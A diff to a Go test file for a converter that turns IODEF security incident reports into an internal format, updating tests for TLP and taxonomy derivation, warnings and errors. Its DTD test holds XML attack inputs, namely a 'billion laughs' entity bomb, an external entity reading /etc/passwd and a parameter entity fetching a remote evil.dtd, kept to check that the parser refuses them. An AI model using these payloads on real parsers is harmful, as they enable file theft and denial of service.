@@ -87,9 +87,9 @@ func TestMapping(t *testing.T) {
 	}{
 		{"dos.xml", tlpAmber, func(t *testing.T, incs []*irxv1.Incident, warning string) {
 			inc := incs[0]
-			// No TLP colour in the document: the default. The taxonomy is
-			// the IncidentCategory.
-			if inc.GetTlp() != irxv1.Tlp_TLP_AMBER || taxonomyLabel(inc.GetTaxonomy()) != "availability/ddos" {
+			// need-to-know is TLP:AMBER+STRICT (derivation table), over
+			// the default. The taxonomy is the IncidentCategory.
+			if inc.GetTlp() != irxv1.Tlp_TLP_AMBER_STRICT || taxonomyLabel(inc.GetTaxonomy()) != "availability/ddos" {
 				t.Errorf("tlp %v, taxonomy %v", inc.GetTlp(), inc.GetTaxonomy())
 			}
 			// The sender's ticket is an alternative id of its team; ours is
@@ -117,11 +117,17 @@ func TestMapping(t *testing.T) {
 			if m := inc.GetAssessments()[0].GetMonetaryImpact(); m.GetCurrency() != "EUR" || m.GetAmountMinor() != 1250050 {
 				t.Errorf("monetary impact: %v", m)
 			}
-			if inc.GetGenerationTime() != nil {
-				t.Error("GenerationTime is output only in irx")
+			if inc.GetGenerationTime() != nil || inc.GetSenderGenerationTime() == nil {
+				t.Error("GenerationTime is output only in irx; the sender's is kept beside it")
 			}
-			for _, want := range []string{"Incident/Contact/PostalAddress", "Incident/EventData/Expectation",
-				"Incident/Assessment/TimeImpact", "Incident/EventData/Flow/System@spoofed=no",
+			if len(inc.GetExpectations()) == 0 {
+				t.Error("Expectation not mapped")
+			}
+			if c := inc.GetContacts()[0]; c.GetPostalAddress() == "" || inc.GetAttackingHosts()[0].GetSpoofed() != "no" {
+				t.Errorf("postal address, spoofed: %v %v", c, inc.GetAttackingHosts())
+			}
+			for _, want := range []string{"Incident/Contact/PostalAddress@type=mailing",
+				"Incident/Assessment/TimeImpact", "Incident/EventData/Flow/System@ownership=customer",
 				"Incident/History/HistoryItem@action=rate-limit-network (as remediate-other)"} {
 				if !strings.Contains(warning, want) {
 					t.Errorf("warning lacks %q: %s", want, warning)
@@ -160,8 +166,11 @@ func TestMapping(t *testing.T) {
 			if a := inc.GetAssessments()[0]; a.GetConfidence() != 80 {
 				t.Errorf("numeric confidence 0.8: %d", a.GetConfidence())
 			}
-			for _, want := range []string{"Incident/IndicatorData/Indicator/IndicatorID (4)", "Incident/IndicatorData/Indicator,",
-				"Incident/EventData/Record/RecordData,", "Incident/IndicatorData/Indicator/Observable/EmailData/EmailSubject"} {
+			if inc.GetIndicators()[0].GetIodefId().GetId() == "" {
+				t.Error("IndicatorID not kept")
+			}
+			for _, want := range []string{"Incident/IndicatorData/Indicator (line",
+				"Incident/EventData/Record/RecordData (line", "Incident/IndicatorData/Indicator/Observable/EmailData/EmailSubject"} {
 				if !strings.Contains(warning+",", want) {
 					t.Errorf("warning lacks %q: %s", want, warning)
 				}
@@ -172,15 +181,18 @@ func TestMapping(t *testing.T) {
 			for _, inc := range incs {
 				got = append(got, inc.GetTlp().String()+" "+taxonomyLabel(inc.GetTaxonomy()))
 			}
-			// Red from the document, the default for the others; the
-			// taxonomy from an IncidentCategory, from an RSIT machine tag,
-			// from the default.
-			want := []string{"TLP_RED fraud/phishing", "TLP_AMBER information-gathering/scanner", "TLP_AMBER other/undetermined"}
+			// Red from the document, the default where it says nothing,
+			// private is red; the taxonomy from an IncidentCategory, from
+			// an RSIT machine tag, from the default.
+			want := []string{"TLP_RED fraud/phishing", "TLP_AMBER information-gathering/scanner", "TLP_RED other/undetermined"}
 			if !slices.Equal(got, want) {
 				t.Errorf("got %v, want %v", got, want)
 			}
-			if !strings.Contains(warning, "Incident[2]/EventData/Flow/System/Service/Portlist") {
+			if !strings.Contains(warning, "Incident[3]@restriction=private") {
 				t.Errorf("paths in a document of several incidents name the incident: %s", warning)
+			}
+			if incs[1].GetAttackingHosts()[0].GetServices()[0].GetPortlist() != "22,23,2222" {
+				t.Errorf("portlist: %v", incs[1].GetAttackingHosts())
 			}
 		}},
 		{"codered-v1.xml", tlpAndTaxonomy, func(t *testing.T, incs []*irxv1.Incident, warning string) {
@@ -194,7 +206,14 @@ func TestMapping(t *testing.T) {
 			if len(inc.GetLogExcerpts()) != 1 || inc.GetLogExcerpts()[0].GetSource() != "Web-server logs" {
 				t.Errorf("log excerpts: %v", inc.GetLogExcerpts())
 			}
-			for _, want := range []string{"Incident/Assessment/Impact", "Incident/Contact/RegistryHandle", "Incident/EventData/Record/RecordData"} {
+			// v1 Impact is a SystemImpact; its type implies the taxonomy.
+			if a := inc.GetAssessments(); len(a) == 0 || len(a[0].GetSystemImpacts()) == 0 {
+				t.Errorf("v1 Impact not mapped: %v", a)
+			}
+			if h := inc.GetContacts()[0].GetRegistryHandles(); len(h) != 1 || h[0].GetRegistry() != "arin" {
+				t.Errorf("registry handles: %v", h)
+			}
+			for _, want := range []string{"Incident/EventData/Flow/System/Node/Counter", "Incident/EventData/Record/RecordData"} {
 				if !strings.Contains(warning, want) {
 					t.Errorf("warning lacks %q: %s", want, warning)
 				}
@@ -271,10 +290,10 @@ func TestErrors(t *testing.T) {
 		{name: "unknown enum values", file: "unknown-enum.xml", opts: tlpAmber, incErrs: []string{"",
 			`testdata/unknown-enum.xml:16:3: Incident[2]@status: "pending" is not an IODEF status; one of new, in-progress, forwarded, resolved, future, ext-value` + "\n" +
 				`testdata/unknown-enum.xml:24:9: Incident[2]/EventData/Flow/System@category: "attacker" is not an IODEF system category; one of source, target, intermediate, sensor, infrastructure, ext-value`}},
-		{name: "no TLP", file: "dos.xml", opts: noDefaults,
-			incErrs: []string{`testdata/dos.xml:10:3: Incident: IODEF has no TLP: pass --tlp (the Incident's restriction is not white, green, amber or red)`}},
-		{name: "no taxonomy", file: "malware.xml", opts: noDefaults,
-			incErrs: []string{`testdata/malware.xml:11:3: Incident: no Reference Security Incident Taxonomy entry can be derived from the document (Assessment/IncidentCategory or a Method/Reference such as rsit:class="type"): pass --taxonomy CLASS/TYPE`}},
+		// Both derive TLP and taxonomy from the document: no defaults
+		// needed.
+		{name: "TLP derived", file: "dos.xml", opts: noDefaults, incErrs: []string{""}},
+		{name: "taxonomy derived", file: "malware.xml", opts: noDefaults, incErrs: []string{""}},
 		{name: "oversize", data: oversize, opts: tlpAndTaxonomy,
 			docErr: "big.xml:1:1: IODEF-Document: the document is more than 4 MiB; the limit is 4194304 bytes (4 MiB): split it into several files"},
 		{name: "too deep", data: deep, opts: tlpAndTaxonomy,
@@ -395,16 +414,16 @@ func TestDefaults(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	// Incident 1 has TLP:RED and a taxonomy; 2 has a taxonomy and no TLP;
-	// 3 has neither.
-	if d := doc.Incidents[0]; d.Err != nil || d.Incident.GetTlp() != irxv1.Tlp_TLP_RED {
-		t.Errorf("Incident 1: %v %v", d.Err, d.Incident)
+	// Incident 1 has TLP:RED and a taxonomy; 2 has a taxonomy and no
+	// restriction: RFC 7970's default, private, is TLP:RED; 3 is private
+	// and has no taxonomy.
+	if d := doc.Incidents[0]; d.Err != nil || d.Incident.GetTlp() != irxv1.Tlp_TLP_RED || !slices.Equal(d.Derived, []string{"tlp", "taxonomy"}) {
+		t.Errorf("Incident 1: %v %v %v", d.Err, d.Incident, d.Derived)
 	}
-	if err := doc.Incidents[1].Err; !errors.Is(err, iodef.ErrNoTLP) || errors.Is(err, iodef.ErrNoTaxonomy) ||
-		!strings.Contains(err.Error(), "IODEF has no TLP: pass a default TLP (the Incident's restriction") {
-		t.Errorf("Incident 2: %v", err)
+	if d := doc.Incidents[1]; d.Err != nil || d.Incident.GetTlp() != irxv1.Tlp_TLP_RED || len(d.Defaulted) != 0 {
+		t.Errorf("Incident 2: %v %v", d.Err, d.Incident)
 	}
-	if err := doc.Incidents[2].Err; !errors.Is(err, iodef.ErrNoTLP) || !errors.Is(err, iodef.ErrNoTaxonomy) ||
+	if err := doc.Incidents[2].Err; errors.Is(err, iodef.ErrNoTLP) || !errors.Is(err, iodef.ErrNoTaxonomy) ||
 		!strings.Contains(err.Error(), `rsit:class="type"): pass a default taxonomy CLASS/TYPE`) {
 		t.Errorf("Incident 3: %v", err)
 	}
@@ -421,7 +440,7 @@ func TestDefaults(t *testing.T) {
 		}
 		got = append(got, d.Incident.GetTlp().String()+" "+taxonomyLabel(d.Incident.GetTaxonomy()))
 	}
-	if want := []string{"TLP_RED fraud/phishing", "TLP_GREEN information-gathering/scanner", "TLP_GREEN other/other"}; !slices.Equal(got, want) {
+	if want := []string{"TLP_RED fraud/phishing", "TLP_GREEN information-gathering/scanner", "TLP_RED other/other"}; !slices.Equal(got, want) {
 		t.Errorf("got %v, want %v", got, want)
 	}
 	// The document's own TLP wins over the default, and the warning says so.
@@ -465,7 +484,7 @@ func TestValuesIrxHasNoVocabularyFor(t *testing.T) {
 	}
 	w := d.Warning()
 	for _, want := range []string{
-		"odd.xml: IODEF not mapped to irx.v1.Incident, ignored: ",
+		"odd.xml: IODEF kept verbatim (no irx field): ",
 		"Incident/EventData/Flow/System/Node/DomainData (not a host name)",
 		"Incident/Description@xml:lang=English (UK) (not a BCP 47 language tag",
 	} {
@@ -552,10 +571,10 @@ func TestRestrictions(t *testing.T) {
 	}
 }
 
-// TestEntitiesAreNotExpanded: a DTD's entities are neither expanded (an
-// exponential "billion laughs") nor fetched (an external entity naming a
-// file): a reference to one is refused as a syntax error, with its place.
-func TestEntitiesAreNotExpanded(t *testing.T) {
+// TestDTDRefused: any DTD is refused with its place, whatever it declares
+// (an exponential "billion laughs", an external entity naming a file, a
+// parameter entity, or nothing), so no entity is expanded or fetched.
+func TestDTDRefused(t *testing.T) {
 	const incident = `<IODEF-Document version="2.00" xmlns="urn:ietf:params:xml:ns:iodef-2.0">
 <Incident purpose="reporting"><IncidentID name="csirt.example.com">1</IncidentID>
 <Description>&x;</Description>
@@ -563,21 +582,27 @@ func TestEntitiesAreNotExpanded(t *testing.T) {
 	for name, dtd := range map[string]string{
 		"billion laughs": `<!DOCTYPE IODEF-Document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">` +
 			`<!ENTITY x "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`,
-		"external entity": `<!DOCTYPE IODEF-Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
+		"external entity":  `<!DOCTYPE IODEF-Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
+		"parameter entity": `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>`,
+		"plain":            `<!DOCTYPE IODEF-Document>`,
 	} {
 		t.Run(name, func(t *testing.T) {
-			_, err := decode("dtd.xml", []byte(dtd+"\n"+incident), tlpAndTaxonomy)
+			doc, err := decode("dtd.xml", []byte("<?xml version=\"1.0\"?>\n"+dtd+"\n"+incident), tlpAndTaxonomy)
 			var e *iodef.Error
-			if !errors.As(err, &e) || e.Line != 4 || e.Path != "IODEF-Document/Incident/Description" ||
-				!strings.Contains(e.Msg, "XML syntax error: invalid character entity &x;") {
-				t.Fatalf("got %v", err)
+			if !errors.As(err, &e) || e.Line != 2 || e.Column != 1 || e.Path != "IODEF-Document" ||
+				!strings.Contains(e.Msg, "DTD") || doc != nil {
+				t.Fatalf("got %v, %v", doc, err)
+			}
+			if !strings.HasPrefix(err.Error(), "dtd.xml:2:1: IODEF-Document: ") {
+				t.Errorf("error %q does not start with file:line:col: path", err)
 			}
 		})
 	}
-	// The DTD itself carries no incident data and is skipped.
-	doc, err := decode("dtd.xml", []byte(`<!DOCTYPE IODEF-Document [<!ENTITY x "y">]>`+"\n"+strings.Replace(incident, "&x;", "text", 1)), tlpAndTaxonomy)
-	if err != nil || doc.Incidents[0].Err != nil {
-		t.Fatalf("%v %v", err, doc)
+	// Inside the document, the DTD's place and the element path are named.
+	_, err := decode("late.xml", []byte("<IODEF-Document xmlns=\"urn:ietf:params:xml:ns:iodef-2.0\"><Incident>\n<!DOCTYPE x>"), tlpAndTaxonomy)
+	var e *iodef.Error
+	if !errors.As(err, &e) || e.Path != "IODEF-Document/Incident" || e.Line != 2 {
+		t.Fatalf("got %v", err)
 	}
 }
 
